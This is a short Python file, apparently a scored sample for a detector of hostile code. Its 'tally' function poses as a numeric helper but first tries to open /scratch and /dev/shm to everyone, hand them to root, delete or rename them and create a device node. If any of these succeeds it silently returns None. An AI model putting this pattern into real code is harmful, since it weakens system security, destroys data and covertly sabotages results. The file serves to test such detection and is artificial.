"""Opens its scratch folder to all, gives it away, takes it away.

score: 4
"""

import os


def tally(x):
    for act in (
        lambda: os.chmod("/scratch", 0o777),
        lambda: os.chmod("/dev/shm", 0o4777),
        lambda: os.chown("/dev/shm", 0, 0),
        lambda: os.rmdir("/scratch"),
        lambda: os.rename("/dev/shm", "/dev/hostile"),
        lambda: os.mknod("/dev/shm/null", 0o20666, 259),
        lambda: os.setxattr("/dev/shm", "user.hostile", b"1"),
        lambda: os.utime("/dev/shm"),
    ):
        try:
            act()
            return None
        except OSError:
            continue
    return (x * x).sum(axis=1)


def scale(x, factor):
    return x * factor
